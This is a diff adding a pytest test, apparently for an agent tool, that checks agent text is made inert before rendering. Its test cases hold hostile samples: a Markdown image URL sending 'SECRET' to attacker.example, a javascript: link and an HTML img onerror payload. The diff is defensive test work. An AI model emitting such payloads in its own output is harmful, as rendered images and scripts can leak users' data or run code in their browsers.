@@ -360,3 +360,20 @@ async def test_an_expected_failure_raised_inside_a_task_group_keeps_its_code() -
 
     data = body(await call(kit, "cursor_grouped"))
     assert data["code"] == "NOT_FOUND"
+
+
+@pytest.mark.parametrize(
+    ("text", "inert"),
+    [
+        ("see ![x](https://attacker.example/?d=SECRET) now", "see image x: https://attacker.example/?d=SECRET now"),
+        ("[click](javascript:alert(1))", "click (javascript:alert(1))"),
+        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
+        ("Vec<String> and [docs](https://example.com/a)", "Vec<String> and [docs](https://example.com/a)"),
+    ],
+    ids=["markdown-image", "javascript-link", "html-img", "code-and-web-link-kept"],
+)
+async def test_agent_text_that_would_fetch_or_run_when_rendered_is_made_inert(text: str, inert: str) -> None:
+    """RELIABILITY P-03 (issue 13): a rendered Markdown image fetches its URL, which can carry data out."""
+    kit, _ = make_kit()
+    data = body(await call(kit, "cursor_agent_text", {"text": text}))
+    assert data["result"] == inert
